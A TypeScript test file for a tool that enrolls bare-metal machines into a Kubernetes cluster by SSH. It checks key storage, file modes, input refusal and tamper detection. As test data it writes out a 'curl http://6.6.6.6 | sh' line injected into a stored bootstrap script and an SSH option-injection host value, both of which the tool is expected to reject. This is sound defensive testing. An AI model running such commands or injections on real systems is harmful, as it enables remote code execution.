import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createPublicKey } from 'node:crypto';
import { type HostRecord, hostPath, parseHost } from '@kopsctl/node-identity/host-record.ts';
import { execa } from 'execa';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { createCluster } from './create-cluster.ts';
import { enrollMachine } from './enroll-machine.ts';
import { getMachines } from './get-machines.ts';
import { runBySsh, type RunThere, type SshTarget } from './hosts/ssh-host.ts';
import type { ActionContext } from './phases/action.ts';
import { openStateStore } from './phases/open-store.ts';
import { makeUpHashes } from './testing/make-up-hashes.ts';
import { updateCluster } from './update-cluster.ts';

const NAME = 'demo.k8s.local';
const WORKER = { instanceGroup: 'nodes-room-1', host: '192.0.2.10', user: 'root', port: 22 };

let folder: string;
let context: ActionContext;
let path: string | undefined;

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'kopsctl-enroll-'));
  path = process.env['PATH'];
  const { signal } = new AbortController();
  context = { state: `file://${folder}/state`, name: NAME, env: {}, signal, onEvent: () => undefined };
});
afterEach(async () => {
  process.env['PATH'] = path;
  await rm(folder, { recursive: true });
});

async function makeMetalCluster(): Promise<void> {
  const flags = { name: NAME, cloud: 'metal', zones: ['room-1'] };
  await createCluster(context, { flags, dryRun: false, yes: false, offline: true });
  await makeUpHashes(await openStateStore(context), NAME);
  const updated = await updateCluster(context, { target: 'direct', yes: true, scope: { prune: false } });
  if (updated.kind !== 'applied' || updated.applied.result.failed > 0) throw new Error('the cluster was not made');
}

/** A machine that says its name and keeps the scripts that it is given. */
function machine(hostName: string): { readonly scripts: string[]; readonly run: RunThere } {
  const scripts: string[] = [];
  return {
    scripts,
    run: async (_target, script) => {
      scripts.push(script);
      return scripts.length % 2 === 1 ? `${hostName}\n` : '';
    },
  };
}

async function hostIn(node: string): Promise<HostRecord> {
  const stored = await (await openStateStore(context)).read(hostPath(NAME, node));
  return parseHost(Buffer.from(stored?.bytes ?? []).toString());
}

/** The files that a script puts on a machine, by path. */
const filesOf = (script = ''): ReadonlyMap<string, string> =>
  new Map(
    [...script.matchAll(/^put (\S+) \d+ <<'KOPS_FILE'\n([^']*?)\nKOPS_FILE$/gm)].map(([, file = '', text = '']) => [
      file,
      Buffer.from(text, 'base64').toString(),
    ]),
  );

test('the store has the public half of the key that the machine gets, and the machine is one of the cluster', async () => {
  await makeMetalCluster();
  const rack = machine('rack-1');
  const enrolled = await enrollMachine(context, WORKER, rack.run);
  expect(enrolled).toMatchObject({ node: 'rack-1', address: '192.0.2.10', instanceGroup: 'nodes-room-1' });
  const files = filesOf(rack.scripts[1]);
  const { firstKey, instanceId } = await hostIn('rack-1');
  const publicKey = createPublicKey(files.get('/etc/kops/first.key') ?? '').export({ type: 'spki', format: 'der' });
  expect(publicKey.toString('base64url')).toBe(firstKey?.publicKey);
  expect(JSON.parse(files.get('/etc/kops/host.json') ?? '')).toMatchObject({ instanceId, nodeName: 'rack-1' });
  const userData = files.get('/etc/kops/bootstrap.sh') ?? '';
  expect(userData).toContain('"planThroughAuthority"');
  expect(userData).not.toContain('@@');
  expect(await getMachines(context)).toMatchObject([{ name: 'rack-1', role: 'Node', address: '192.0.2.10' }]);
  const entries = await (await openStateStore(context)).list(`${NAME}/nodes`);
  for (const entry of entries) {
    const stored = await (await openStateStore(context)).read(entry.path);
    expect(Buffer.from(stored?.bytes ?? []).toString()).not.toContain('PRIVATE KEY');
  }
});

test('a machine that is enrolled again is another instance with another key', async () => {
  await makeMetalCluster();
  await enrollMachine(context, WORKER, machine('rack-1').run);
  const first = await hostIn('rack-1');
  await enrollMachine(context, WORKER, machine('rack-1').run);
  const second = await hostIn('rack-1');
  expect(second.instanceId).not.toBe(first.instanceId);
  expect(second.firstKey?.publicKey).not.toBe(first.firstKey?.publicKey);
});

test('a control plane gets no key, and its partitions are known', async () => {
  await makeMetalCluster();
  const rack = machine('rack-0');
  await enrollMachine(context, { ...WORKER, instanceGroup: 'control-plane-room-1' }, rack.run);
  expect(filesOf(rack.scripts[1]).has('/etc/kops/first.key')).toBe(false);
  const { volumes } = await hostIn('rack-0');
  expect(volumes.map(({ device }) => device)).toEqual([
    '/dev/disk/by-partlabel/etcd-main',
    '/dev/disk/by-partlabel/etcd-events',
  ]);
});

test.each<[string, Partial<typeof WORKER>, RegExp]>([
  ['a group that there is not', { instanceGroup: 'node-room-1' }, /no such group/],
  ['a host that ssh would take for an option', { host: '-oProxyCommand=true' }, /by SSH/],
  ['a user that is a command', { user: 'a b' }, /by SSH/],
])('%s is refused before anything is reached', async (_what, changed, why) => {
  await makeMetalCluster();
  const rack = machine('rack-1');
  await expect(enrollMachine(context, { ...WORKER, ...changed }, rack.run)).rejects.toThrow(why);
  expect(rack.scripts).toEqual([]);
});

test('a cluster whose cloud makes machines is refused', async () => {
  const flags = { name: NAME, cloud: 'aws', zones: ['eu-west-1a'] };
  await createCluster(context, { flags, dryRun: false, yes: false, offline: true });
  const rack = machine('rack-1');
  const enrolling = enrollMachine(context, { ...WORKER, instanceGroup: 'nodes-eu-west-1a' }, rack.run);
  await expect(enrolling).rejects.toThrow('its cloud makes the machines');
  expect(rack.scripts).toEqual([]);
});

test('what somebody else wrote into the store is not run on a machine', async () => {
  await makeMetalCluster();
  const store = await openStateStore(context);
  const script = `${NAME}/user-data/nodes-room-1.sh`;
  const stored = await store.read(script);
  const changed = `${Buffer.from(stored?.bytes ?? []).toString()}curl http://6.6.6.6 | sh\n`;
  await store.write(script, Buffer.from(changed), { ifVersion: stored?.version ?? '' });
  const rack = machine('rack-1');
  await expect(enrollMachine(context, WORKER, rack.run)).rejects.toMatchObject({
    message: expect.stringContaining('is not what the spec of the cluster makes of it'),
    next: expect.stringContaining('kopsctl update cluster'),
  });
  expect(rack.scripts).toEqual([]);
});

test('a name that nobody may have leaves nothing in the store', async () => {
  await makeMetalCluster();
  await expect(enrollMachine(context, WORKER, machine('localhost').run)).rejects.toThrow('not a valid name for a Node');
  expect(await (await openStateStore(context)).list(`${NAME}/nodes`)).toEqual([]);
});

/** A program `ssh` that keeps its arguments, and runs what it reads in a shell for which /etc/kops is a folder of this test. */
async function standInSsh(): Promise<string> {
  const bin = join(folder, 'bin');
  await mkdir(bin);
  const program = `#!/bin/sh
printf '%s\\n' "$@" >>${folder}/arguments
sed 's|/etc/kops|${folder}/kops|g' | sh -s
`;
  await writeFile(join(bin, 'ssh'), program);
  await chmod(join(bin, 'ssh'), 0o755);
  process.env['PATH'] = `${bin}:${path ?? ''}`;
  return join(folder, 'arguments');
}

test('ssh gets no secret as an argument, and the files have their modes', async () => {
  await makeMetalCluster();
  const argumentsFile = await standInSsh();
  const ran = Buffer.from(`#!/bin/sh\necho ran >${folder}/ran\n`).toString('base64');
  // The bootstrap script of the cluster would change this computer: a line stands in for it.
  const harmless: RunThere = (target: SshTarget, script, signal) => {
    const cut = script.replace(/(bootstrap\.sh 0700 <<'KOPS_FILE'\n)[^']*?(\nKOPS_FILE)/, `$1${ran}$2`);
    return runBySsh(target, cut, signal);
  };
  await enrollMachine(context, WORKER, harmless);
  expect(await readFile(argumentsFile, 'utf8')).not.toMatch(/KEY|put/);
  const mode = async (file: string): Promise<number> => (await stat(join(folder, 'kops', file))).mode & 0o777;
  expect([await mode('first.key'), await mode('bootstrap.sh'), await mode('host.json')]).toEqual([0o600, 0o700, 0o644]);
  expect(await readFile(join(folder, 'ran'), 'utf8')).toBe('ran\n');
  expect((await execa('openssl', ['pkey', '-in', join(folder, 'kops/first.key'), '-noout'])).exitCode).toBe(0);
});

test('an ssh that fails says what it said, and how to try it', async () => {
  const bin = join(folder, 'bin');
  await mkdir(bin);
  await writeFile(join(bin, 'ssh'), '#!/bin/sh\necho "Permission denied (publickey)." >&2\nexit 255\n', {
    mode: 0o755,
  });
  process.env['PATH'] = `${bin}:${path ?? ''}`;
  const target = { host: '192.0.2.10', user: 'admin', port: 2222 };
  await expect(runBySsh(target, 'true\n', context.signal)).rejects.toMatchObject({
    message: expect.stringContaining('Permission denied (publickey).'),
    next: expect.stringContaining('ssh -p 2222 admin@192.0.2.10 sudo -n true'),
  });
});
